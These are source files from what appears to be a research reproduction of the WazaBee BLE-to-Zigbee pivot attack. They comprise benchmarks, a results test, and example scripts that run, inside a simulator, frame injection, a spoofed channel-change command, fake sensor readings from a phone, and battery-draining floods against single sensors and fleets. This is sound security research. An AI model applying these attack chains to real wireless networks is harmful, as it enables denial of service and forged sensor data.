        curve[num_nodes] = (dense_s, sharded_s)
    top = sizes[-1]
    extra = {"txs_per_node": txs_per_node}
    for num_nodes, (dense_s, sharded_s) in curve.items():
        extra[f"dense_ms_{num_nodes}"] = dense_s * 1e3
        extra[f"sharded_ms_{num_nodes}"] = sharded_s * 1e3
    extra["speedup_vs_dense"] = curve[top][0] / curve[top][1]
    records.append(
        BenchRecord(
            name="fleet_medium_scan",
            metric="ms",
            value=curve[top][1] * 1e3,
            repeats=repeats,
            extra=extra,
        )
    )

    # -- end-to-end campaign vs the legacy broadcast medium -----------------
    num_nodes = 60 if quick else 208
    num_pans = 6 if quick else 16
    duration_s = 0.2
    flood_rate_hz = 20.0 if quick else 10.0
    spec = make_fleet(
        num_nodes=num_nodes, num_pans=num_pans, seed=5, channel_reuse=True
    )

    def run(kind: str) -> None:
        run_fleet_campaign(
            spec,
            duration_s=duration_s,
            attack=True,
            flood_rate_hz=flood_rate_hz,
            medium_kind=kind,
            sample_interval_s=duration_s,
        )

    sharded_s = best_of(lambda: run("sharded"), repeats=repeats)
    legacy_s = best_of(lambda: run("dense-unbounded"), repeats=1)
    records.append(
        BenchRecord(
            name="fleet_campaign_sharded",
            metric="ms",
            value=sharded_s * 1e3,
            repeats=repeats,
            extra={
                "nodes": num_nodes,
                "pans": num_pans,
                "duration_s": duration_s,
                "flood_rate_hz": flood_rate_hz,
                "dense_unbounded_ms": legacy_s * 1e3,
                "speedup_vs_dense": legacy_s / sharded_s,
            },
        )
    )
    return records
