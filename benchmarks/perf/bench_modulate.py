"""Waveform-synthesis microbenchmark (the transmission hot path).

Times GFSK modulation of a full WazaBee frame's MSK bit stream through
the phase-stitched :class:`WaveformCache` against the direct
convolve→cumsum→``exp`` reference (:meth:`FskModulator.modulate_direct`,
the pre-PR5 implementation).  The cached/direct ratio is the PR's
headline speedup and lands in ``extra`` for regression tracking.
"""

from __future__ import annotations

from typing import List

import numpy as np

from benchmarks.perf.harness import BenchRecord, best_of
from repro.core.encoding import frame_to_msk_bits
from repro.dot15d4.frames import Address, build_data
from repro.dsp.gfsk import FskModulator, GfskConfig, WaveformCache

__all__ = ["bench_modulate"]

_SRC = Address(pan_id=0x1234, address=0x0063)
_DST = Address(pan_id=0x1234, address=0x0042)

#: The WazaBee TX modem: 2 Mbit/s GFSK at the default medium rate (16 MHz).
_CONFIG = GfskConfig(samples_per_symbol=8, modulation_index=0.5, bt=0.5)
_SYMBOL_RATE = 2e6


def _frame_bits(count: int, payload_size: int, seed: int = 17):
    rng = np.random.default_rng(seed)
    streams = []
    for i in range(count):
        frame = build_data(
            source=_SRC,
            destination=_DST,
            payload=bytes(rng.integers(0, 256, payload_size, dtype=np.uint8)),
            sequence_number=i & 0xFF,
        )
        streams.append(frame_to_msk_bits(frame.to_bytes()))
    return streams


def bench_modulate(quick: bool = False) -> List[BenchRecord]:
    frames = 5 if quick else 50
    payload_size = 40
    # Quick-size runs time only a few ms per side, so a single stalled
    # repeat can sink the ratio below its floor — keep repeats at 5 even
    # in quick mode (each repeat is cheap; best-of shrugs off the stall).
    repeats = 5
    streams = _frame_bits(frames, payload_size)
    cache = WaveformCache(_CONFIG, _SYMBOL_RATE)
    direct = FskModulator(_CONFIG, _SYMBOL_RATE, use_cache=False)

    # Warm-up + cross-check: both paths must agree before we time them.
    for bits in streams[:2]:
        fast = cache.synthesize(bits)
        ref = direct.modulate_direct(bits).samples
        assert np.max(np.abs(fast - ref)) <= 1e-9

    def run_cached() -> None:
        for bits in streams:
            cache.synthesize(bits)

    def run_direct() -> None:
        for bits in streams:
            direct.modulate_direct(bits)

    cached_s = best_of(run_cached, repeats=repeats)
    direct_s = best_of(run_direct, repeats=repeats)
    speedup = direct_s / cached_s if cached_s > 0 else float("inf")
    return [
        BenchRecord(
            name="modulate_cached",
            metric="frames_per_s",
            value=frames / cached_s,
            repeats=repeats,
            extra={
                "frames": frames,
                "payload_bytes": payload_size,
                "bits_per_frame": int(streams[0].size),
                "direct_frames_per_s": frames / direct_s,
                "speedup_vs_direct": speedup,
            },
        )
    ]
