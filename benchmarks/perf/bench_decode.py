"""Decode-throughput microbenchmark (the reception hot path).

Times full-frame despreading — capture bits in, classified frame out —
through the vectorised :meth:`CorrespondenceTable.decode_blocks` path used
by :func:`decode_payload_bits`, against the scalar per-block reference
(:meth:`CorrespondenceTable.decode_block` in a Python loop, the pre-PR2
implementation).  The ratio between the two is the PR's headline speedup
and is recorded in the report's ``extra`` for regression tracking.
"""

from __future__ import annotations

from typing import List

import numpy as np

from benchmarks.perf.harness import BenchRecord, best_of
from repro.core.encoding import MSK_STRIDE, frame_to_msk_bits
from repro.core.rx import DecodedFrame, decode_payload_bits
from repro.core.tables import default_table
from repro.dot15d4.frames import Address, build_data
from repro.phy.ieee802154 import Ppdu

__all__ = ["bench_decode_throughput", "decode_payload_bits_scalar"]

_SRC = Address(pan_id=0x1234, address=0x0063)
_DST = Address(pan_id=0x1234, address=0x0042)


def decode_payload_bits_scalar(bits: np.ndarray) -> DecodedFrame:
    """The pre-vectorisation decode loop, kept as the timing baseline."""
    from repro.dot15d4.fcs import verify_fcs

    table = default_table()
    arr = np.asarray(bits, dtype=np.uint8)
    num_strides = arr.size // MSK_STRIDE
    symbols: List[int] = []
    distances: List[int] = []
    for k in range(num_strides):
        block = arr[k * MSK_STRIDE + 1 : (k + 1) * MSK_STRIDE]
        symbol, distance = table.decode_block(block)
        symbols.append(symbol)
        distances.append(distance)
    sfd_index = Ppdu.find_sfd(symbols, search_limit=12)
    ppdu = Ppdu.parse_symbols(symbols[sfd_index:])
    used = sfd_index + 4 + 2 * len(ppdu.psdu)
    return DecodedFrame(
        psdu=ppdu.psdu,
        fcs_ok=verify_fcs(ppdu.psdu),
        sfd_index=sfd_index,
        symbols=symbols[:used],
        distances=distances[:used],
    )


def _noisy_captures(count: int, payload_size: int, seed: int = 11):
    """Full-frame captures with a sprinkle of chip errors (realistic work:
    non-zero Hamming distances everywhere)."""
    rng = np.random.default_rng(seed)
    captures = []
    for i in range(count):
        frame = build_data(
            source=_SRC,
            destination=_DST,
            payload=bytes(rng.integers(0, 256, payload_size, dtype=np.uint8)),
            sequence_number=i & 0xFF,
        )
        bits = frame_to_msk_bits(frame.to_bytes())[32:]
        flips = (rng.random(bits.size) < 0.01).astype(np.uint8)
        captures.append(bits ^ flips)
    return captures


def bench_decode_throughput(quick: bool = False) -> List[BenchRecord]:
    frames = 20 if quick else 200
    payload_size = 40
    # Keep 5 repeats even in quick mode: the enforced speedup ratio is
    # best-of-vectorised vs best-of-scalar, and at quick workload sizes a
    # single stalled repeat on one side can push the ratio through the
    # regression floor.  Extra repeats are cheap; best-of absorbs stalls.
    repeats = 5
    captures = _noisy_captures(frames, payload_size)

    # Warm-up + cross-check: both paths must agree before we time them.
    for capture in captures[:3]:
        vec = decode_payload_bits(capture)
        ref = decode_payload_bits_scalar(capture)
        assert vec is not None and vec.psdu == ref.psdu
        assert vec.distances == ref.distances

    def run_vectorised() -> None:
        for capture in captures:
            decode_payload_bits(capture)

    def run_scalar() -> None:
        for capture in captures:
            decode_payload_bits_scalar(capture)

    vec_s = best_of(run_vectorised, repeats=repeats)
    scalar_s = best_of(run_scalar, repeats=repeats)
    speedup = scalar_s / vec_s if vec_s > 0 else float("inf")
    return [
        BenchRecord(
            name="decode_throughput_vectorised",
            metric="frames_per_s",
            value=frames / vec_s,
            repeats=repeats,
            extra={
                "frames": frames,
                "payload_bytes": payload_size,
                "scalar_frames_per_s": frames / scalar_s,
                "speedup_vs_scalar": speedup,
            },
        )
    ]
