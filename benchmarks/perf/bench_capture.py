""":meth:`RfMedium.compose_capture` latency microbenchmark.

Capture composition — superposing every overlapping transmission, the
interferer bursts and the noise floor into one IQ window — runs once per
delivered frame, so its latency multiplies into every simulated
experiment.  The bench stands up the paper's testbed (two WiFi
interferers), puts a frame on the air and times composing its delivery
window.
"""

from __future__ import annotations

from typing import List

import numpy as np

from benchmarks.perf.harness import BenchRecord, best_of
from repro.chips import Nrf52832, RzUsbStick
from repro.core.tx import WazaBeeTransmitter
from repro.dot15d4.frames import Address, build_data
from repro.experiments.environment import build_testbed

__all__ = ["bench_compose_capture"]

_SRC = Address(pan_id=0x1234, address=0x0063)
_DST = Address(pan_id=0x1234, address=0x0042)


def bench_compose_capture(quick: bool = False) -> List[BenchRecord]:
    repeats = 3 if quick else 10
    testbed = build_testbed(seed=3)
    attacker = Nrf52832(
        testbed.medium,
        position=testbed.attacker_position,
        rng=np.random.default_rng(1),
    )
    reference = RzUsbStick(
        testbed.medium,
        position=testbed.reference_position,
        rng=np.random.default_rng(2),
    )
    reference.set_channel(14)
    reference.start_rx(lambda _frame: None)
    tx = WazaBeeTransmitter(attacker)
    tx.configure(14)
    frame = build_data(_SRC, _DST, b"bench-payload", sequence_number=1)
    tx.transmit(frame)
    transmission = testbed.medium._transmissions[-1]
    start = transmission.start_time - testbed.medium.capture_margin_s
    end = transmission.end_time + testbed.medium.capture_margin_s
    radio = reference.transceiver
    window_samples = int(
        round((end - start) * testbed.medium.sample_rate)
    )

    def compose() -> None:
        testbed.medium.compose_capture(radio, start, end)

    latency_s = best_of(compose, repeats=repeats)
    return [
        BenchRecord(
            name="compose_capture_latency",
            metric="ms",
            value=latency_s * 1e3,
            repeats=repeats,
            extra={
                "window_samples": window_samples,
                "interferers": len(testbed.medium.interferers),
            },
        )
    ]
