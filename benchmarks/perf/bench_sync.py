"""Sync-correlation microbenchmark (the acquisition hot path).

Times :meth:`FskDemodulator.find_sync` over a realistic frame-sized
capture with both correlator implementations pinned — the O(N·M)
time-domain ``np.correlate`` and the FFT overlap path — plus the
automatic crossover the receivers actually use.  Both implementations
must return the same lock before anything is timed.
"""

from __future__ import annotations

from typing import List

import numpy as np

from benchmarks.perf.harness import BenchRecord, best_of
from repro.core.encoding import frame_to_msk_bits, wazabee_access_address_bits
from repro.dot15d4.frames import Address, build_data
from repro.dsp.gfsk import FskDemodulator, FskModulator, GfskConfig
from repro.dsp.signal import IQSignal

__all__ = ["bench_sync"]

_SRC = Address(pan_id=0x1234, address=0x0063)
_DST = Address(pan_id=0x1234, address=0x0042)

_CONFIG = GfskConfig(samples_per_symbol=8, modulation_index=0.5, bt=None)
_SYMBOL_RATE = 2e6


def _capture(payload_size: int, snr_margin: float = 0.05, seed: int = 23):
    """A noisy frame capture plus the Access-Address sync template."""
    rng = np.random.default_rng(seed)
    frame = build_data(
        source=_SRC,
        destination=_DST,
        payload=bytes(rng.integers(0, 256, payload_size, dtype=np.uint8)),
        sequence_number=1,
    )
    bits = frame_to_msk_bits(frame.to_bytes())
    modulator = FskModulator(_CONFIG, _SYMBOL_RATE, use_cache=False)
    clean = modulator.modulate_direct(bits).samples
    noise = snr_margin * (
        rng.standard_normal(clean.size) + 1j * rng.standard_normal(clean.size)
    )
    sig = IQSignal(clean + noise, _SYMBOL_RATE * _CONFIG.samples_per_symbol)
    return sig, wazabee_access_address_bits()


def bench_sync(quick: bool = False) -> List[BenchRecord]:
    payload_size = 20 if quick else 60
    repeats = 3 if quick else 5
    searches = 3 if quick else 20
    demod = FskDemodulator(_CONFIG, _SYMBOL_RATE)
    sig, sync_bits = _capture(payload_size)
    disc = demod.discriminate(sig)
    power = np.abs(sig.samples[:-1]) ** 2

    # Cross-check: both correlators must produce the same lock.
    locks = {
        kind: demod.find_sync(disc, sync_bits, power=power, correlator=kind)
        for kind in ("direct", "fft")
    }
    assert locks["direct"] is not None and locks["fft"] is not None
    assert locks["direct"].start == locks["fft"].start

    def runner(correlator):
        def run() -> None:
            for _ in range(searches):
                demod.find_sync(
                    disc, sync_bits, power=power, correlator=correlator
                )

        return run

    auto_s = best_of(runner(None), repeats=repeats)
    direct_s = best_of(runner("direct"), repeats=repeats)
    fft_s = best_of(runner("fft"), repeats=repeats)
    return [
        BenchRecord(
            name="sync_search",
            metric="searches_per_s",
            value=searches / auto_s,
            repeats=repeats,
            extra={
                "capture_samples": int(disc.size),
                "template_bits": int(np.asarray(sync_bits).size),
                "direct_searches_per_s": searches / direct_s,
                "fft_searches_per_s": searches / fft_s,
                "fft_speedup_vs_direct": direct_s / fft_s,
            },
        )
    ]
