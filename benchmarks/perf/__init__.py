"""Performance microbenchmarks and the ``BENCH_PR2.json`` trajectory.

Unlike the sibling ``benchmarks/test_*`` modules — which regenerate the
*artefacts* of the paper (tables, figures) — this package times the hot
paths that make those artefacts cheap to regenerate at scale:

* ``bench_decode`` — reception-primitive decode throughput (frames/s),
  vectorised :meth:`CorrespondenceTable.decode_blocks` vs the scalar
  per-block reference;
* ``bench_capture`` — :meth:`RfMedium.compose_capture` latency, the inner
  loop of every simulated delivery;
* ``bench_table3_cell`` — wall-clock of one Table III cell, the unit the
  ``--workers`` fan-out parallelises.

Run ``python -m benchmarks.perf`` to execute all of them and write
``BENCH_PR2.json`` (see :mod:`benchmarks.perf.harness` for the schema).
"""

from benchmarks.perf.harness import BenchRecord, run_suite, write_report

__all__ = ["BenchRecord", "run_suite", "write_report"]
