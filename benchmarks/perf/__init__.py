"""Performance microbenchmarks and the ``BENCH_PR5.json`` trajectory.

Unlike the sibling ``benchmarks/test_*`` modules — which regenerate the
*artefacts* of the paper (tables, figures) — this package times the hot
paths that make those artefacts cheap to regenerate at scale:

* ``bench_decode`` — reception-primitive decode throughput (frames/s),
  vectorised :meth:`CorrespondenceTable.decode_blocks` vs the scalar
  per-block reference;
* ``bench_modulate`` — GFSK waveform synthesis (frames/s), phase-stitched
  :class:`WaveformCache` vs the direct convolve→cumsum→``exp`` reference;
* ``bench_sync`` — :meth:`FskDemodulator.find_sync` search rate, FFT vs
  time-domain correlator;
* ``bench_capture`` — :meth:`RfMedium.compose_capture` latency, the inner
  loop of every simulated delivery;
* ``bench_table3_cell`` — wall-clock of one Table III cell, the unit the
  ``--workers`` fan-out parallelises.

Run ``python -m benchmarks.perf`` to execute all of them and write
``BENCH_PR5.json`` (see :mod:`benchmarks.perf.harness` for the schema);
``--baseline BASELINE.json`` prints a delta summary and fails on a >30%
throughput-ratio regression.
"""

from benchmarks.perf.harness import (
    BenchRecord,
    compare_reports,
    run_suite,
    write_report,
)

__all__ = ["BenchRecord", "compare_reports", "run_suite", "write_report"]
