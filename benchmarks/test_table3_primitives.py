"""Table III — reception and transmission primitives assessment.

The paper's headline benchmark: 100 frames per (chip, primitive, channel)
cell, classified valid / corrupted / lost, in an environment with WiFi on
channels 6 and 11.

Shape claims asserted (not absolute numbers — our substrate is a simulator):

* average valid rate is "very satisfactory" (> 90%) for every chip and
  primitive (paper: 97.5–99.4%);
* WiFi-overlapped Zigbee channels (16–18, 21–23) fare worse than the clean
  ones, the paper's per-channel signature;
* the CC1352-R1 model is at least as stable as the nRF52832 on reception
  (paper: 99.375% vs 98.625%).
"""

import numpy as np

from benchmarks.conftest import table3_frames
from repro.experiments.table3 import format_table3, run_table3

WIFI_CHANNELS = {16, 17, 18, 21, 22, 23}
CLEAN_CHANNELS = {11, 12, 13, 14, 20, 25, 26}


def test_table3_full(benchmark, report):
    frames = table3_frames()

    result = benchmark.pedantic(
        run_table3, kwargs={"frames": frames, "seed": 1}, rounds=1, iterations=1
    )
    report(
        f"Table III ({frames} frames per cell)",
        format_table3(result),
    )

    for chip in ("nRF52832", "CC1352-R1"):
        for primitive in ("rx", "tx"):
            rate = result.average_valid_rate(chip, primitive)
            assert rate > 0.90, f"{chip}/{primitive} average {rate:.3f}"

    # WiFi-channel dip: pooled over chips and primitives.
    def pooled_rate(channels):
        rates = [
            cell.valid_rate
            for rows in result.cells.values()
            for ch, cell in rows.items()
            if ch in channels
        ]
        return float(np.mean(rates))

    clean = pooled_rate(CLEAN_CHANNELS)
    wifi = pooled_rate(WIFI_CHANNELS)
    assert wifi < clean, f"expected WiFi dip: clean={clean:.3f} wifi={wifi:.3f}"
    assert clean - wifi < 0.2, "dip should be a few percent, not a collapse"

    # Chip ordering on reception (a small but consistent effect in the paper).
    assert (
        result.average_valid_rate("CC1352-R1", "rx")
        >= result.average_valid_rate("nRF52832", "rx") - 0.02
    )
