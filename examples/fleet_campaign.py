#!/usr/bin/env python3
"""Ghost-in-the-Wireless at fleet scale: depleting a whole deployment.

The single-victim ``energy_depletion.py`` demo drains one sensor.  Real
deployments are buildings full of them — so this campaign builds a
multi-PAN fleet on the spatially sharded medium, lets it report normally
for a baseline run, then repeats the run with one WazaBee flooder per PAN
rotating ack-requested frames across every battery-powered node.  The
comparison shows the three fleet-level symptoms the paper's §VII residual
risk implies: battery drain across the population, the first node deaths,
and CSMA-CA congestion (retries and backoffs) for the traffic that is
still legitimate.

Run:  python examples/fleet_campaign.py
"""

from repro.experiments.fleet import format_fleet_report, run_fleet_campaign
from repro.zigbee.fleet import make_fleet

NODES = 36
PANS = 3
DURATION_S = 3.0


def run(attack: bool, duration_s: float = DURATION_S):
    spec = make_fleet(num_nodes=NODES, num_pans=PANS, seed=11)
    return run_fleet_campaign(
        spec,
        duration_s=duration_s,
        attack=attack,
        flood_rate_hz=120.0,
        medium_kind="sharded",
    )


def main() -> None:
    print(f"simulating {NODES} nodes / {PANS} PANs, {DURATION_S:g} s each...")
    baseline = run(attack=False)
    attacked = run(attack=True)
    print()
    print("--- baseline ---")
    print(format_fleet_report(baseline))
    print()
    print("--- under attack ---")
    print(format_fleet_report(attacked))
    print()
    drop = baseline.battery_curve[-1] - attacked.battery_curve[-1]
    print(
        f"the campaign burned an extra {drop:.0%} of the fleet's batteries "
        f"and left {attacked.alive_curve[-1]}/{attacked.battery_powered} "
        "battery nodes alive"
    )
    assert baseline.ledger_balanced and attacked.ledger_balanced


if __name__ == "__main__":
    main()
