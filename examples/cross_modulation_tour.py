#!/usr/bin/env python3
"""A guided tour of the cross-modulation trick behind WazaBee.

Walks through the paper's theory sections with live computation:

* Table I  — the 16 DSSS PN sequences;
* Algorithm 1 — their MSK re-encoding (the correspondence table);
* Figure 1 — 2-FSK phase rotation directions;
* Figures 2-3 — O-QPSK half-sine waveforms, constant envelope, ±π/2 steps;
* the punchline: a GFSK(BT=0.5) waveform demodulated as O-QPSK chips, and
  an O-QPSK waveform demodulated as FSK bits, with zero errors.

Run:  python examples/cross_modulation_tour.py
"""

import numpy as np

from repro.core.encoding import wazabee_access_address
from repro.core.tables import default_table, pn_to_msk
from repro.dsp.gfsk import FskDemodulator, FskModulator, GfskConfig
from repro.dsp.msk import chips_to_transitions, transitions_to_chips
from repro.dsp.oqpsk import OqpskModulator
from repro.experiments.figures import fig1_fsk_iq, fig2_oqpsk_waveforms, fig3_constellation
from repro.phy.ieee802154 import PN_SEQUENCES


def bits_str(bits) -> str:
    return "".join(str(int(b)) for b in bits)


def main() -> None:
    print("== Table I: PN sequences (symbol -> 32 chips) ==")
    for symbol in (0, 1, 15):
        print(f"  {symbol:2d}: {bits_str(PN_SEQUENCES[symbol])}")

    print("\n== Algorithm 1: PN -> MSK correspondence table ==")
    table = default_table()
    for symbol in (0, 1, 15):
        print(f"  {symbol:2d}: {bits_str(table.msk_sequence(symbol))}")
    print(f"  WazaBee access address: 0x{wazabee_access_address():08X}")

    print("\n== Figure 1: 2-FSK phase rotation ==")
    fig1 = fig1_fsk_iq()
    d1 = fig1["phase_one"][-1] - fig1["phase_one"][0]
    d0 = fig1["phase_zero"][-1] - fig1["phase_zero"][0]
    print(f"  bit 1: phase advance {d1:+.3f} rad (counter-clockwise)")
    print(f"  bit 0: phase advance {d0:+.3f} rad (clockwise)")

    print("\n== Figures 2-3: O-QPSK with half-sine pulses ==")
    fig2 = fig2_oqpsk_waveforms()
    env = fig2["envelope"][64:-64]
    print(f"  envelope over the burst: min={env.min():.4f} max={env.max():.4f} "
          "(constant => MSK-like)")
    fig3 = fig3_constellation()
    steps = np.array(fig3["phase_steps"]) / (np.pi / 2)
    print(f"  phase steps (in units of pi/2): {np.round(steps, 3)}")

    print("\n== The pivot, both directions ==")
    rng = np.random.default_rng(1)
    chips = rng.integers(0, 2, 512).astype(np.uint8)

    # BLE GFSK modulator carrying the MSK re-encoding of the chips:
    transitions = chips_to_transitions(chips, previous_chip=0)
    gfsk = FskModulator(GfskConfig(8, 0.5, 0.5), 2e6)
    msk_rx = FskDemodulator(GfskConfig(8, 0.5, None), 2e6)
    sig = gfsk.modulate(transitions)
    disc = msk_rx.discriminate(sig)
    sync = msk_rx.find_sync(disc, transitions[:64], threshold=0.3)
    bits = msk_rx.decide_bits(disc, sync.start, transitions.size)
    recovered = transitions_to_chips(bits, start_index=0, previous_chip=0)
    errors = int(np.count_nonzero(recovered != chips))
    print(f"  GFSK(BT=0.5) -> O-QPSK receiver: {errors}/{recovered.size} chip errors")

    # O-QPSK modulator decoded by a BLE-style FSK discriminator:
    oqpsk = OqpskModulator(samples_per_chip=8)
    sig2 = oqpsk.modulate(chips)
    disc2 = msk_rx.discriminate(sig2)
    sync2 = msk_rx.find_sync(disc2, transitions[1:65], threshold=0.3)
    bits2 = msk_rx.decide_bits(disc2, sync2.start, transitions.size - 1)
    expected = chips_to_transitions(chips)[: bits2.size]
    errors2 = int(np.count_nonzero(bits2 != expected))
    print(f"  O-QPSK -> BLE FSK receiver:      {errors2}/{bits2.size} bit errors")
    print("\nthe two physical layers are mutually intelligible — "
          "that is the WazaBee attack surface.")


if __name__ == "__main__":
    main()
