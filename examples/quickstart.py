#!/usr/bin/env python3
"""Quickstart: divert a BLE chip into a Zigbee transceiver.

Stands up a simulated 2.4 GHz environment with two devices three metres
apart — a compromised nRF52832 (BLE 5) and a genuine 802.15.4 transceiver
(AVR RZUSBStick) — and runs both WazaBee primitives:

1. the BLE chip *transmits* an 802.15.4 data frame that the real Zigbee
   radio receives with a valid FCS;
2. the real Zigbee radio transmits, and the BLE chip *receives* and decodes
   the frame.

Run:  python examples/quickstart.py
"""

import numpy as np

from repro.chips import Nrf52832, RzUsbStick
from repro.core.firmware import WazaBeeFirmware
from repro.dot15d4.frames import Address, MacFrame, build_data
from repro.radio import RfMedium, Scheduler

ZIGBEE_CHANNEL = 14  # 2420 MHz — shared with BLE data channel 8 (Table II)


def main() -> None:
    scheduler = Scheduler()
    medium = RfMedium(scheduler, rng=np.random.default_rng(0))

    ble_chip = Nrf52832(medium, position=(0.0, 0.0), rng=np.random.default_rng(1))
    zigbee = RzUsbStick(medium, position=(3.0, 0.0), rng=np.random.default_rng(2))
    zigbee.set_channel(ZIGBEE_CHANNEL)

    firmware = WazaBeeFirmware(ble_chip, scheduler)

    sensor = Address(pan_id=0x1234, address=0x0063)
    coordinator = Address(pan_id=0x1234, address=0x0042)

    # -- 1. transmission primitive: BLE chip -> Zigbee radio ----------------
    print(f"[tx] injecting an 802.15.4 frame on channel {ZIGBEE_CHANNEL} "
          "from the BLE chip...")
    received = []
    zigbee.start_rx(received.append)
    frame = build_data(coordinator, sensor, b"hello from a BLE chip",
                       sequence_number=1)
    firmware.send_frame(frame, channel=ZIGBEE_CHANNEL)
    scheduler.run(0.01)
    for r in received:
        mac = MacFrame.parse(r.psdu)
        print(f"[tx] Zigbee radio received: payload={mac.payload!r} "
              f"fcs_ok={r.fcs_ok} mean_chip_distance={r.mean_chip_distance:.2f}")
    zigbee.stop_rx()

    # -- 2. reception primitive: Zigbee radio -> BLE chip --------------------
    print("[rx] sniffing Zigbee traffic with the BLE chip...")
    sniffed = []
    firmware.start_sniffer(ZIGBEE_CHANNEL, lambda f, d: sniffed.append((f, d)))
    zigbee.transmit_frame(
        build_data(sensor, coordinator, b"temperature=21", sequence_number=2)
    )
    scheduler.run(0.01)
    for mac, decoded in sniffed:
        print(f"[rx] BLE chip decoded: payload={mac.payload!r} "
              f"src={mac.source} dst={mac.destination} "
              f"fcs_ok={decoded.fcs_ok} mean_hamming={decoded.mean_distance:.2f}")
    firmware.stop_sniffer()

    assert received and received[0].fcs_ok, "transmission primitive failed"
    assert sniffed and sniffed[0][1].fcs_ok, "reception primitive failed"
    print("both primitives work: the BLE chip is now a Zigbee transceiver.")


if __name__ == "__main__":
    main()
