#!/usr/bin/env python3
"""Scenario B: a full Zigbee attack chain from a compromised BLE tracker.

The Gablys Lite tracker's nRF51822 has no LE 2M, so the WazaBee firmware
falls back to the Enhanced ShockBurst 2 Mbit/s mode.  The attack then runs
the paper's four stages against the demo home-automation network:

1. active scan (Beacon Request sweep over channels 11-26),
2. eavesdropping (learn the sensor's short address),
3. remote AT command injection — a spoofed ``CH`` command moves the sensor
   to another channel (denial of service),
4. fake data injection — the attacker impersonates the silenced sensor.

Run:  python examples/tracker_attack.py
"""

from repro.experiments.scenarios import run_scenario_b


def main() -> None:
    print("running scenario B (40 simulated seconds)...")
    result = run_scenario_b(duration_s=40.0, dos_channel=26, fake_value=99, seed=5)
    print("attack log:")
    for line in result.log:
        print("  " + line)
    print(f"final phase:          {result.final_phase.value}")
    print(f"network found on:     channel {result.network_channel}")
    print(f"sensor channel after: {result.sensor_channel_after} "
          "(moved off the network => denial of service)")
    print(f"display entries:      {result.legitimate_entries} legitimate, "
          f"{result.spoofed_entries} spoofed")


if __name__ == "__main__":
    main()
