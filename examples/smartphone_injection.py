#!/usr/bin/env python3
"""Scenario A: injecting 802.15.4 frames from an unrooted Android phone.

The attacker app only has the standard extended-advertising API: whitening
and CRC are forced on and the secondary advertising channel is chosen by
CSA#2.  The attack pre-inverts the whitening of the target BLE channel
inside the advertising data, so every time the channel lottery lands on BLE
channel 8 (2420 MHz = Zigbee channel 14), the AUX_ADV_IND *is* a valid
802.15.4 frame — here a forged sensor reading that shows up on the Zigbee
coordinator's display.

Run:  python examples/smartphone_injection.py
"""

from repro.experiments.scenarios import run_scenario_a

FORGED_VALUE = 1337


def main() -> None:
    print("running scenario A (90 simulated seconds of advertising)...")
    result = run_scenario_a(duration_s=90.0, zigbee_channel=14,
                            forged_value=FORGED_VALUE, seed=7)
    print(f"advertising events:        {result.events_total}")
    print(f"events on target channel:  {result.events_on_target} "
          f"(hit rate {result.hit_rate:.3f}, CSA#2 expectation ≈ 1/37 ≈ 0.027)")
    print(f"forged readings displayed: {result.injected_received}")
    if result.injected_received:
        print(f"the coordinator now shows value={FORGED_VALUE} entries "
              "injected by a phone that never spoke Zigbee.")
    else:
        print("no injection landed this run — advertise longer "
              "(the channel lottery is ≈1/37 per event).")


if __name__ == "__main__":
    main()
