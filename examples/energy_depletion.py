#!/usr/bin/env python3
"""Residual risk on encrypted networks: energy depletion via the pivot.

§VII of the paper notes that even with 802.15.4 cryptography enabled "the
attacker can still perform denial of service attacks", citing the
Ghost-in-Zigbee energy-depletion attack.  Here the network runs AES-CCM*
link-layer security — spoofed data never reaches the application — yet the
diverted BLE chip drains the sleepy sensor's battery anyway: every flood
frame forces a radio wake-up, a full reception and an acknowledgement,
all of which are spent *before* the security check can reject the payload.

Run:  python examples/energy_depletion.py
"""

import numpy as np

from repro.attacks.energy_depletion import EnergyDepletionAttack
from repro.chips import Nrf52832
from repro.core.firmware import WazaBeeFirmware
from repro.dot15d4.frames import Address
from repro.dot15d4.security import SecurityContext
from repro.radio import RfMedium, Scheduler
from repro.zigbee.energy import Battery
from repro.zigbee.network import CoordinatorNode, SensorNode

KEY = bytes(range(16))
COORD = Address(pan_id=0x1234, address=0x42)
SENSOR = Address(pan_id=0x1234, address=0x63)


def run(attack: bool, duration_s: float = 30.0) -> Battery:
    scheduler = Scheduler()
    medium = RfMedium(scheduler, rng=np.random.default_rng(0))
    battery = Battery(capacity_j=0.05)  # scaled so depletion fits the demo
    coordinator = CoordinatorNode(
        medium, COORD, position=(3, 0),
        security=SecurityContext(key=KEY), rng=np.random.default_rng(1),
    )
    sensor = SensorNode(
        medium, SENSOR, COORD, position=(3, 1.5), battery=battery,
        security=SecurityContext(key=KEY), rng=np.random.default_rng(2),
    )
    coordinator.start()
    sensor.start()
    if attack:
        chip = Nrf52832(medium, position=(0, 0), rng=np.random.default_rng(3))
        firmware = WazaBeeFirmware(chip, scheduler)
        EnergyDepletionAttack(
            firmware,
            target=SENSOR,
            spoofed_source=Address(pan_id=0x1234, address=0x99),
            channel=14,
            rate_hz=40.0,
        ).start()
    scheduler.run(duration_s)
    if attack and not battery.depleted:
        print("(note: battery survived this run — raise rate_hz or duration)")
    return battery


def main() -> None:
    print("simulating 30 s on an AES-CCM*-secured network...")
    baseline = run(attack=False)
    attacked = run(attack=True)
    print(f"baseline:  {baseline.consumed_j * 1e3:6.2f} mJ consumed "
          f"({baseline.fraction_remaining:.0%} battery left)")
    print(f"attacked:  {attacked.consumed_j * 1e3:6.2f} mJ consumed "
          f"({attacked.fraction_remaining:.0%} battery left, "
          f"depleted={attacked.depleted})")
    ratio = attacked.consumed_j / max(baseline.consumed_j, 1e-12)
    print(f"the flood multiplied the victim's energy burn by {ratio:.0f}x — "
          "encryption did not help.")


if __name__ == "__main__":
    main()
