#!/usr/bin/env python3
"""Live sniffer client: subscribe, decode, and hand frames to the IDS.

The batch experiments answer "does the pivot work?"; the streaming
service answers "what is the pivoted chip hearing *right now*?".  This
example runs the full client path against a supervised ``repro serve``
daemon:

1. start the service on a Unix socket (in-process here; operationally
   you would run ``python -m repro serve --socket /run/wazabee.sock``);
2. subscribe as a JSONL client and decode each streamed PSDU back into a
   MAC frame with the 802.15.4 parser;
3. hand every frame to the §VII counter-measure as a
   :class:`~repro.ids.monitor.BandObservation` — a defender trained on a
   BLE-only site immediately flags the 2.4 GHz Zigbee band as new.

Run:  python examples/live_sniffer.py
"""

import tempfile
import threading
import time

from repro.dot15d4.channels import channel_frequency_hz
from repro.dot15d4.frames import MacFrame
from repro.ids import AnomalyDetector
from repro.ids.monitor import BandObservation
from repro.obs import scoped
from repro.serve import ServeConfig, SnifferServer, subscribe

CHANNEL = 14
FRAMES = 30


def stream_frames(socket_path: str, limit: int):
